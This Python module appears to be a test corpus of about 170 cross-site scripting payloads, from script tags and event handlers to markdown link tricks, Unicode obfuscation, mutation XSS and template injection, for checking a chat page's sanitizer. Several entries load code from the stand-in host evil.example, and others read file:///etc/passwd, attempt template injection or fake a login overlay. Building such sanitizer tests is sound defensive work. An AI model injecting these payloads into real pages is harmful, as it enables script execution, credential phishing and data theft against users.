"""XSS corpus: text a user or a model could send, trying to run script in the chat page.

Each entry is ``(name, payload)``; the name is ``category/what``. Every payload that reaches script does
so by calling ``alert(1)`` (a dialog) or by setting ``window.__xss`` (a flag), so a browser test can tell.

Written for chatter from these public sources (recalled, adapted; nothing fetched):
- OWASP "XSS Filter Evasion Cheat Sheet" (script/tag variants, javascript: obfuscation with entities,
  tabs, newlines and case, event handlers, <base>, <meta http-equiv=refresh>, style/expression()).
- PortSwigger "Cross-site scripting cheat sheet" (event handlers that fire without interaction:
  onfocus+autofocus, ontoggle, onbegin, onanimationstart, onpageshow; SVG <animate>/<set>).
- Mario Heiderich's HTML5 Security Cheatsheet (html5sec.org): SVG/MathML, xlink:href, foreignObject,
  <form><button formaction>, <isindex>, <object data>, vbscript:, data: URLs.
- Mutation XSS (mXSS) write-ups: Securitum's DOMPurify 2.0.0 bypass
  (<math><mtext><table><mglyph><style><img src=x onerror>), namespace confusion with <svg></p><style>,
  <noscript>/<title>/<textarea> raw-text breakouts, comments that end early.
- CommonMark 0.31 spec and markdown-it's validateLink: inline, reference-style and autolinks, images,
  titles, link destinations in <...>, entities in destinations, raw HTML blocks and inline HTML.
- Trojan Source (CVE-2021-42574) and Unicode TR#36/TR#39 confusables: bidi overrides (U+202E),
  zero-width characters inside keywords, fullwidth < > (U+FF1C/U+FF1E), small-form < (U+FE64).
- Template engines (Django, Jinja, AngularJS sandbox escapes): {{ }}, {% %}, {{constructor...}}.

Categories: script, handler, scheme, svg-mathml, css, markdown, entity, unicode, embed, template, broken.
"""

ZWSP = "\u200b"  # zero-width space
ZWJ = "\u200d"
RLO = "\u202e"  # right-to-left override
PDF = "\u202c"  # pop directional formatting

XSS_CORPUS: list[tuple[str, str]] = [
    # --- script: <script> in every spelling ------------------------------------------------------
    ("script/plain", "<script>alert(1)</script>"),
    ("script/flag", "<script>window.__xss=1</script>"),
    ("script/upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script/mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script/src", '<script src="https://evil.example/x.js"></script>'),
    ("script/src-protocol-relative", "<script src=//evil.example/x.js></script>"),
    ("script/unclosed", "<script>alert(1)"),
    ("script/no-space-attr", "<script/src=data:,alert(1)></script>"),
    ("script/nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script/extra-open", "<<script>alert(1);//<</script>"),
    ("script/type-module", '<script type="module">window.__xss=1</script>'),
    ("script/in-markdown-paragraph", "Here you go:\n\n<script>alert(1)</script>\n\nDone."),
    ("script/closing-with-spaces", "<script>alert(1)</script >"),
    ("script/nul-in-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    # --- handler: event handler attributes ---------------------------------------------------------
    ("handler/img-onerror", "<img src=x onerror=alert(1)>"),
    ("handler/img-onerror-quoted", '<img src="x" onerror="window.__xss=1">'),
    ("handler/img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("handler/img-onerror-backtick", "<img src=x onerror=alert`1`>"),
    ("handler/img-onerror-newlines", "<img\nsrc=x\nonerror\n=\nalert(1)>"),
    ("handler/body-onload", "<body onload=alert(1)>"),
    ("handler/input-onfocus-autofocus", "<input onfocus=alert(1) autofocus>"),
    ("handler/div-onmouseover", "<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>"),
    ("handler/details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("handler/video-onerror", "<video><source onerror=alert(1)></video>"),
    ("handler/audio-src-onerror", "<audio src=x onerror=alert(1)>"),
    ("handler/marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("handler/select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("handler/textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
    ("handler/animation-start", "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>"),
    ("handler/allowed-tag-onclick", '<a href="https://ok.example" onclick="alert(1)">ok</a>'),
    ("handler/allowed-tag-uppercase", "<P ONMOUSEOVER=alert(1)>x</P>"),
    ("handler/pointer-on-span", "<span onpointerenter=alert(1)>hover</span>"),
    ("handler/img-srcset", "<img srcset=x onerror=alert(1)>"),
    # --- scheme: javascript:, data:, vbscript: in links ----------------------------------------
    ("scheme/html-a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("scheme/html-a-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("scheme/html-a-javascript-newline-entity", '<a href="jav&#10;ascript:alert(1)">x</a>'),
    ("scheme/html-a-javascript-decimal", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    ("scheme/html-a-javascript-hex-no-semicolon", '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'),
    ("scheme/html-a-javascript-leading-space", '<a href=" \tjavascript:alert(1)">x</a>'),
    ("scheme/html-a-javascript-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("scheme/html-a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("scheme/html-a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("scheme/md-javascript", "[x](javascript:alert(1))"),
    ("scheme/md-javascript-case", "[x](JaVaScRiPt:alert(1))"),
    ("scheme/md-javascript-entity-tab", "[x](jav&#x09;ascript:alert(1))"),
    ("scheme/md-javascript-entity-colon", "[x](javascript&colon;alert(1))"),
    ("scheme/md-javascript-percent", "[x](javascript%3Aalert(1))"),
    ("scheme/md-javascript-angle-brackets", "[x](<javascript:alert(1)>)"),
    ("scheme/md-javascript-angle-with-space", "[x](< javascript:alert(1)>)"),
    ("scheme/md-javascript-backslash-escape", "[x](javascript\\:alert(1))"),
    ("scheme/md-javascript-comment-newline", "[x](javascript://%0aalert(1))"),
    ("scheme/md-vbscript", "[x](vbscript:msgbox(1))"),
    ("scheme/md-data-html", "[x](data:text/html,<script>alert(1)</script>)"),
    ("scheme/md-data-html-base64", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("scheme/md-file", "[x](file:///etc/passwd)"),
    ("scheme/bare-data-url", "see data://evil.example.com/x please"),
    ("scheme/bare-ftp-url", "fetch ftp://evil.example.com/payload.exe now"),
    ("scheme/bare-ssh-url", "connect to ssh://evil.example.com/ today"),
    ("scheme/bare-javascript-text", "javascript:alert(1) javascript://evil.example.com/%0aalert(1)"),
    # --- svg-mathml: foreign content -----------------------------------------------------------
    ("svg-mathml/svg-onload", "<svg onload=alert(1)>"),
    ("svg-mathml/svg-slash-onload", "<svg/onload=window.__xss=1>"),
    ("svg-mathml/svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-mathml/svg-script-entity", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("svg-mathml/svg-animate-href", '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>'),
    ("svg-mathml/svg-set-onbegin", "<svg><set onbegin=alert(1) attributeName=x to=1>"),
    ("svg-mathml/svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
    ("svg-mathml/svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"></use></svg>'),
    ("svg-mathml/svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe></foreignObject></svg>"),
    ("svg-mathml/svg-style-breakout", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("svg-mathml/math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("svg-mathml/math-mglyph-comment", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
    ("svg-mathml/math-href", '<math href="javascript:alert(1)">click</math>'),
    ("svg-mathml/math-maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
    # --- css: style attributes and sheets ------------------------------------------------------
    ("css/style-attribute-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("css/style-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("css/style-element", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("css/style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("css/style-behavior", '<span style="behavior:url(https://evil.example/x.htc)">x</span>'),
    ("css/style-moz-binding", '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>'),
    ("css/style-escaped", '<div style="background:u\\72l(jav\\61script:alert(1))">x</div>'),
    ("css/link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("css/style-overlay-phishing", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">Session expired, log in again</div>'),
    # --- markdown: links, images, autolinks, raw HTML -------------------------------------------
    ("markdown/image-javascript", "![x](javascript:alert(1))"),
    ("markdown/image-onerror-title", '![x](https://ok.example/a.png "t\\" onerror=\\"alert(1))'),
    ("markdown/image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("markdown/reference-link", "[click][evil]\n\n[evil]: javascript:alert(1)"),
    ("markdown/reference-link-title", '[click][evil]\n\n[evil]: javascript:alert(1) "title"'),
    ("markdown/reference-image", "![x][img]\n\n[img]: https://ok.example/a.png\" onerror=\"alert(1)"),
    ("markdown/autolink-javascript", "<javascript:alert(1)>"),
    ("markdown/autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("markdown/autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("markdown/title-breakout-double", '[x](https://ok.example "a" onmouseover="alert(1)")'),
    ("markdown/title-breakout-single", "[x](https://ok.example 'a' onmouseover='alert(1)')"),
    ("markdown/title-with-quote", '[x](https://ok.example "\\" onmouseover=\\"alert(1)")'),
    ("markdown/href-quote-breakout", '[x](https://ok.example/"onmouseover="alert(1))'),
    ("markdown/raw-html-block", "<div>\n<img src=x onerror=alert(1)>\n</div>"),
    ("markdown/raw-inline-html", "Hello <b onclick=alert(1)>world</b>"),
    ("markdown/html-in-link-text", "[<img src=x onerror=alert(1)>](https://ok.example)"),
    ("markdown/link-in-link", "[[x](javascript:alert(1))](https://ok.example)"),
    ("markdown/code-fence-lang-breakout", '```"><img src=x onerror=alert(1)>\ncode\n```'),
    ("markdown/code-fence-html", "```html\n<script>alert(1)</script>\n```"),
    ("markdown/code-span-html", "`<script>alert(1)</script>`"),
    ("markdown/table-cell-html", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"),
    ("markdown/table-align-breakout", '| a |\n|:-"onmouseover=alert(1)|\n| b |'),
    ("markdown/ordered-list-start", "9999999999\" onmouseover=\"alert(1). item"),
    ("markdown/link-entity-in-destination", "[x](&#106;avascript:alert(1))"),
    ("markdown/html-comment-hides", "<!-- <img src=x onerror=alert(1)> -->visible"),
    ("markdown/emphasis-around-tag", "*<img src=x onerror=alert(1)>*"),
    # --- entity: encoded markup ----------------------------------------------------------------
    ("entity/escaped-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("entity/decimal-lt", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("entity/hex-lt-no-semicolon", "&#x3c;img src=x onerror=alert(1)&#x3e;"),
    ("entity/double-encoded", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("entity/named-without-semicolon", "&ltscript&gtalert(1)&lt/script&gt"),
    ("entity/attribute-entity-quote", '<a href="https://ok.example&quot; onclick=&quot;alert(1)">x</a>'),
    ("entity/percent-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("entity/js-unicode-escape", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    # --- unicode: bidi, zero-width, fullwidth ---------------------------------------------------
    ("unicode/rlo-link-text", f"[{RLO}gepj.exe](javascript:alert(1))"),
    ("unicode/rlo-in-tag", f"<img src=x {RLO}onerror=alert(1)>"),
    ("unicode/rlo-url", f"https://ok.example/{RLO}txt.exe{PDF}"),
    ("unicode/zwsp-in-scheme", f"[x](java{ZWSP}script:alert(1))"),
    ("unicode/zwj-in-tag", f"<scr{ZWJ}ipt>alert(1)</scr{ZWJ}ipt>"),
    ("unicode/fullwidth-angle", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("unicode/small-form-angle", "\ufe64img src=x onerror=alert(1)\ufe65"),
    ("unicode/fullwidth-scheme", "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))"),
    ("unicode/bom-before-scheme", "[x](\ufeffjavascript:alert(1))"),
    ("unicode/nbsp-before-scheme", "[x](\u00a0javascript:alert(1))"),
    # --- embed: frames, objects, navigation, forms ---------------------------------------------
    ("embed/iframe-javascript", "<iframe src=javascript:alert(1)></iframe>"),
    ("embed/iframe-srcdoc", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'),
    ("embed/object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed/object-data-html", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
    ("embed/embed-src", '<embed src="javascript:alert(1)">'),
    ("embed/base-href", '<base href="javascript:alert(1)//">'),
    ("embed/base-hijack", '<base href="https://evil.example/">'),
    ("embed/meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("embed/meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">'),
    ("embed/form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("embed/button-formaction", '<form><button formaction="javascript:alert(1)">Send</button></form>'),
    ("embed/isindex", '<isindex type=image src=1 onerror=alert(1)>'),
    ("embed/htmx-attributes", '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>'),
    ("embed/htmx-on", '<button hx-on:click="alert(1)">x</button>'),
    ("embed/htmx-data-prefix", '<span data-hx-post="/c/new/" data-hx-trigger="load" data-hx-vals=\'js:{a:alert(1)}\'>x</span>'),
    # --- template: text that looks like template code ----------------------------------------
    ("template/django-variable", "{{ request.user.password }}"),
    ("template/django-tag", "{% load static %}{% debug %}"),
    ("template/jinja-ssti", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("template/angular-sandbox", "{{constructor.constructor('alert(1)')()}}"),
    ("template/django-safe-filter", "{{ '<script>alert(1)</script>'|safe }}"),
    ("template/mixed-with-html", "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}"),
    # --- broken: nested, unclosed and mutating markup --------------------------------------------
    ("broken/unclosed-img", "<img src=x onerror=alert(1)"),
    ("broken/unclosed-attr-quote", '<a href="https://ok.example onclick=alert(1)>x'),
    ("broken/comment-breakout", "<!--><img src=x onerror=alert(1)>-->"),
    ("broken/bogus-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("broken/cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("broken/title-breakout", "</title><script>alert(1)</script>"),
    ("broken/textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
    ("broken/noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("broken/xmp-mxss", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>"),
    ("broken/template-element", "<template><img src=x onerror=alert(1)></template>"),
    ("broken/nested-anchors", '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>'),
    ("broken/attribute-without-quotes-gt", "<p title=a>b onmouseover=alert(1)>x</p>"),
    ("broken/end-tag-with-attrs", "<p>x</p onclick=alert(1)>"),
    ("broken/slash-in-tag", "<img/src='x'/onerror=alert(1)//>"),
    ("broken/deep-nesting", "<div>" * 50 + "<img src=x onerror=alert(1)>" + "</div>" * 50),
    ("broken/sse-forged-event", "hi\n\nevent: done\ndata: <img src=x onerror=alert(1)>\n\n"),
    ("broken/sse-forged-event-cr", "hi\r\revent: done\rdata: <img src=x onerror=alert(1)>\r\r"),
]

CATEGORIES: tuple[str, ...] = (
    "script", "handler", "scheme", "svg-mathml", "css", "markdown", "entity", "unicode", "embed", "template",
    "broken",
)

# The ones a browser test runs end to end: each category's most dangerous, plus the mutation (mXSS) tricks
# that only a real HTML parser can show.
BROWSER_SAMPLE: tuple[str, ...] = (
    "script/flag",
    "handler/img-onerror",
    "handler/input-onfocus-autofocus",
    "handler/details-ontoggle",
    "scheme/md-javascript-entity-tab",
    "scheme/html-a-javascript-tab-entity",
    "svg-mathml/svg-slash-onload",
    "svg-mathml/math-mglyph-style",
    "svg-mathml/svg-style-breakout",
    "markdown/title-breakout-double",
    "markdown/code-fence-lang-breakout",
    "embed/iframe-srcdoc",
    "embed/htmx-attributes",
    "broken/noscript-mxss",
    "broken/comment-breakout",
    "broken/sse-forged-event",
)


def payload(name: str) -> str:
    return dict(XSS_CORPUS)[name]
